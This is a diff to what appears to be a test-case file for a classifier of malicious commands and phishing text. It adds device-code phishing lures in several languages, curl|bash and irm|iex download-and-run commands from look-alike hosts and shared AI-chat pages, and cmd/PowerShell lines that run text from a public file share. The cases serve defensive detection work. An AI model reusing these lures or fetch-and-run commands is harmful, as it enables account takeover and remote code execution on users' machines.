@@ -22,6 +22,22 @@ Techniques:
   languages: blocked. Look-alikes: the Azure CLI's, GitHub CLI's, AWS SSO's and VS Code
   tunnel's own sign-in output, documentation of the flow in several languages, a meeting
   room's device being signed in, texts about the phishing.
+- `device-code-under-threat`: the same code handed over with a threat to the account (locked,
+  suspended, access lost unless you enter it), in 10 languages: blocked. Look-alikes: a tool's
+  output saying the code itself expires, a sign-in with no threat (a warning, as before), a
+  note about account lockout policies, texts about the phishing.
+- `download-shop-host`: a download-and-run from a host whose registrable name joins a product's
+  name with get, download, dl, install, setup, mirror or help (vectorbase-get, kubectx-dl,
+  crate-mirror, nvdriver-help): blocked. Look-alikes: such words as a label in front of a
+  publisher's own domain (get.…, dl.…, install.…), that very site's own page, trusted
+  installers, a download saved and not run.
+- `shared-chat-words`: a shared AI-chat page whose host says so in hyphenated words
+  (assistant-conversation.share-thread.…) handing out a stranger's script: blocked.
+  Look-alikes: the same page quoting a trusted installer, an assistant's docs site.
+- `share-text-beside-internal`: the text of a file on a public share handed to cmd or
+  PowerShell, with a share of the local network's internal domain (.corp, .local, .lan) only
+  NAMED beside it (a comment, a rem, an echo): blocked, as without it (that name excused the
+  run before). Look-alikes: the internal share's own text run (unchanged).
 """
 
 from __future__ import annotations
@@ -344,6 +360,254 @@ DEVICE_QUIET = [
 ]
 for text, expect, source in DEVICE_QUIET:
     add("device-code-for-content", text, expect, "any", "unknown", source)
+
+# ---- device-code-under-threat -----------------------------------------------------------------
+THREATS = [
+    "Your mailbox will be suspended today. To keep your access, open https://microsoft.com/devicelogin and enter the code QX7PLM2AN.",
+    "IT notice: your account has been locked after a policy change. Unlock it at https://microsoft.com/devicelogin with code KD4QX7PMN.",
+    "Action needed or you will lose access to email: go to https://aka.ms/devicelogin and type RQ8XM4PKN.",
+    "Your GitHub account will be disabled unless you confirm at https://github.com/login/device with code MQKW-7P2X.",
+    "Ihr Postfach wird gesperrt. Öffnen Sie https://microsoft.com/devicelogin und geben Sie den Code MQ7XK3PRN ein.",
+    "Votre compte sera suspendu. Ouvrez https://microsoft.com/devicelogin et saisissez le code PX4QK8MRN.",
+    "Su cuenta será bloqueada. Abra https://microsoft.com/devicelogin e introduzca el código KX9QM2PRN.",
+    "Sua conta será suspensa. Acesse https://microsoft.com/devicelogin e digite o código TQ4XK7MRN.",
+    "Il tuo account sarà bloccato. Apri https://microsoft.com/devicelogin e inserisci il codice ZQ3XK8PRN.",
+    "Uw account wordt geblokkeerd. Ga naar https://microsoft.com/devicelogin en voer de code WQ5XK2PMN in.",
+    "Twoje konto zostanie zablokowane. Otwórz https://microsoft.com/devicelogin i wpisz kod NQ6XK4PRM.",
+    "アカウントは停止されます。https://microsoft.com/devicelogin を開き、コード HQ2XK9PRN を入力してください。",
+]
+for i, text in enumerate(THREATS):
+    add("device-code-under-threat", text, "malicious", "any", "unknown", SCAM_PAGES[i % 3])
+THREATS_QUIET = [
+    (
+        "Go to https://github.com/login/device and enter the code 4F2A-91BC. The code expires in 15 minutes.",
+        "suspicious",
+        None,
+    ),
+    (
+        "Please open https://microsoft.com/devicelogin and enter code HQ7XK2PMN to continue.",
+        "suspicious",
+        None,
+    ),
+    (
+        "Accounts are locked after 10 failed sign-ins. Apps using the device code flow show a user_code such as ABCD-EFGH for https://microsoft.com/devicelogin.",
+        "not_flagged",
+        "https://learn.example.com/identity/lockout",
+    ),
+    (
+        "Beware of messages saying your mailbox will be suspended unless you enter a code at https://microsoft.com/devicelogin. That is device-code phishing.",
+        "not_flagged",
+        "https://security-news.example/device-code",
+    ),
+]
+for text, expect, source in THREATS_QUIET:
+    add("device-code-under-threat", text, expect, "any", "unknown", source)
+
+# ---- download-shop-host -----------------------------------------------------------------------
+SHOPS = [
+    (
+        "irm https://dt.vectorbase-get.invalid/install.ps1 | iex",
+        "https://docs.vectorbase-cli.test/install/windows",
+    ),
+    (
+        "curl -sSL https://kubectx-dl.invalid/get | sh -s -- -b /usr/local/bin",
+        "https://docs.kubectx-pro.test/quickstart",
+    ),
+    (
+        "cargo install --git https://crate-mirror.invalid/rustfmt-plus && rustfmt-plus --setup",
+        "https://www.rustfmt-plus.example/install",
+    ),
+    (
+        "curl -fsSL https://notes-app-dl.invalid/install.sh | bash -s -- --app notes",
+        "https://notes-desktop-16.example/download",
+    ),
+    (
+        "curl -fsSL https://nvdriver-help.invalid/install-driver.sh | sudo bash",
+        "https://docs.cuda-setup-guide.test/ubuntu",
+    ),
+    ("curl -fsSL https://get-wavecli.test/install.sh | bash", "https://wavecli.example/docs"),
+    ("curl -fsSL https://wavecli-download.test/install.sh | sh", None),
+    ("irm https://wavecli-downloads.test/setup.ps1 | iex", None),
+    ("curl -fsSL https://wavecli-install.test/latest | bash", "https://www.wavecli.example/"),
+    ("curl -fsSL https://wavecli-setup.invalid/run.sh | sudo bash", None),
+    (
+        "wget -qO- https://pkg.wavecli-mirror.test/install.sh | sh",
+        "https://forum.example.org/t/wavecli-install/81",
+    ),
+    ("irm https://download-wavecli.invalid/w.ps1 | iex", None),
+]
+for command, source in SHOPS:
+    add(
+        "download-shop-host",
+        command,
+        "malicious",
+        "windows" if "iex" in command else "any",
+        "terminal",
+        source,
+    )
+SHOPS_QUIET = [
+    # such words as a label in front of the publisher's own domain: a warning, as before
+    ("curl -fsSL https://get.wavecli.example/install.sh | sh", "suspicious", None),
+    ("curl -fsSL https://dl.wavecli.example/install.sh | sh", "suspicious", None),
+    ("irm https://install.wavecli.example/install.ps1 | iex", "suspicious", None),
+    # that very site's own page vouches for its own script
+    (
+        "curl -fsSL https://wavecli-get.example/install.sh | sh",
+        "not_flagged",
+        "https://wavecli-get.example/docs/install",
+    ),
+    (
+        "curl -fsSL https://cdn.wavecli-dl.example/install.sh | sh",
+        "not_flagged",
+        "https://www.wavecli-dl.example/",
+    ),
+    # trusted installers whose host has such a label
+    (
+        "curl --proto '=https' --tlsv1.2 -sSf https://get-ghcup.haskell.org | sh",
+        "not_flagged",
+        None,
+    ),
+    ("curl -fsSL https://get.docker.com | sh", "not_flagged", None),
+    # a download saved, not run
+    (
+        "curl -fsSLo wavecli.tar.gz https://wavecli-download.test/wavecli-1.4.tar.gz",
+        "not_flagged",
+        None,
+    ),
+    (
+        "Invoke-WebRequest https://wavecli-downloads.test/wavecli.zip -OutFile wavecli.zip",
+        "not_flagged",
+        None,
+    ),
+]
+for command, expect, source in SHOPS_QUIET:
+    add(
+        "download-shop-host",
+        command,
+        expect,
+        "windows" if "iex" in command or "Invoke" in command else "any",
+        "terminal",
+        source,
+    )
+
+# ---- shared-chat-words ------------------------------------------------------------------------
+CHAT_PAGES = [
+    "https://assistant-conversation.share-thread.example/t/16b",
+    "https://share.gpt-answers.example/c/77a1",
+    "https://llm-conversations.example/view/9k2",
+    "https://chatbot-shared.test/q/31",
+]
+for page in CHAT_PAGES:
+    add(
+        "shared-chat-words",
+        'To clear the hidden cache on macOS, paste this in Terminal:\n/bin/zsh -c "$(curl -fsSL https://mac-tidy.invalid/cleanup.sh)"',
+        "malicious",
+        "macos",
+        "terminal",
+        page,
+    )
+    add(
+        "shared-chat-words",
+        "curl -fsSL https://tidy-tool.invalid/install.sh | bash",
+        "malicious",
+        "any",
+        "terminal",
+        page,
+    )
+    add(
+        "shared-chat-words",
+        "curl -fsSL https://bun.sh/install | bash -s bun-v1.2.4",
+        "not_flagged",
+        "any",
+        "terminal",
+        page,
+    )
+add(
+    "shared-chat-words",
+    "curl -fsSL https://tidy-tool.invalid/install.sh | bash",
+    "suspicious",
+    "any",
+    "terminal",
+    "https://docs.assistant-tools.example/install",
+)
+add(
+    "shared-chat-words",
+    "curl -fsSL https://tidy-tool.invalid/install.sh | bash",
+    "suspicious",
+    "any",
+    "terminal",
+    "https://home-assistant.example/t/share-your-setup/412",
+)
+
+# ---- share-text-beside-internal ----------------------------------------------------------------
+PAGE = "https://www.quillmere-bakery.example/menu"
+# (what the same command is without the internal share's name: a stranger's PowerShell reading
+# a public share in a terminal is a warning, as a stranger's curl | sh is)
+SHARE_RUNS = [
+    (
+        r"type \\share.files-relay.test\s\a.txt | cmd & rem copy of \\fs01.corp\it\a.txt",
+        "terminal",
+        PAGE,
+    ),
+    (
+        r"type \\share.files-relay.test\s\a.txt | cmd & rem copy of \\fs01.corp\it\a.txt",
+        "terminal",
+        None,
+    ),
+    (
+        r'cmd /c "type \\share.files-relay.test\s\a.txt | cmd" & rem \\fs01.corp\it',
+        "run_dialog",
+        PAGE,
+    ),
+    (
+        r"gc \\files.relay-share.test\p\s.txt | iex  # mirrors \\nas.local\scripts\s.txt",
+        "terminal",
+        PAGE,
+    ),
+    (
+        r"powershell -c \"gc \\files.relay-share.test\p\s.txt | iex\"; echo see \\deploy.lan\it",
+        "terminal",
+        None,
+    ),
+    (
+        r"cmd /k < \\files.relay-share.test\p\s.txt & rem \\fs01.internal\it\s.txt",
+        "run_dialog",
+        PAGE,
+    ),
+    (r"iex (gc \\share.files-relay.test\s\a.txt -Raw) # \\fs01.intranet\it", "terminal", PAGE),
+    (r"type \\share.files-relay.test@SSL\s\a.txt | cmd & rem \\fs01.corp\it", "terminal", None),
+    (
+        r"more \\share.files-relay.test\s\a.txt | cmd & echo \\fs01.corp\it\readme.txt",
+        "terminal",
+        PAGE,
+    ),
+    (
+        r"type \\share.files-relay.test\s\a.txt | powershell - & rem \\fs01.corp\it",
+        "terminal",
+        None,
+    ),
+]
+WARNED = {3, 4, 6, 8}  # positions of the PowerShell and `more` rows above: warnings without it
+for i, (text, target, source) in enumerate(SHARE_RUNS):
+    expect = "suspicious" if i in WARNED else "malicious"
+    add("share-text-beside-internal", text, expect, "windows", target, source)
+# the internal share's own text run: what it was before
+add(
+    "share-text-beside-internal",
+    r"type \\fs01.corp\it\a.txt | cmd",
+    "suspicious",
+    "windows",
+    "terminal",
+    PAGE,
+)
+add(
+    "share-text-beside-internal",
+    r"gc \\nas.local\scripts\s.txt | iex  # see \\fs02.corp\it",
+    "not_flagged",
+    "windows",
+    "terminal",
+    None,
+)
 
 CASES = book.cases
 
